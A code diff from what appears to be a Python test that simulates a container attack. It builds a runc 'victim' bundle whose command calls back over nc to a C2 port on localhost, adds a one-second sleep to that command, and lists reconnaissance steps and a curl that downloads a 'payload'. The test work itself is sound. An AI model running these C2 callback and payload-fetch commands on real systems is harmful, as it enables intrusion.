@@ -121,7 +121,7 @@ def attack(tmp_path):
     assert wait_for(up, 10), "web server did not start"
     ctr = f"spyder-atk-{tag}"
     bundle = runc_bundle(tmp_path / "bundle",
-                         ["sh", "-c", f"id; nc 127.0.0.1 {srv.c2_port} </dev/null"],
+                         ["sh", "-c", f"id; nc 127.0.0.1 {srv.c2_port} </dev/null; sleep 1"],
                          f"/proc/{os.getpid()}/ns/net", {"name": f"victim-{tag}"})
     steps = ["id", "uname -a", "whoami",
              f"curl -s -o {payload} http://127.0.0.1:{srv.port}/payload",
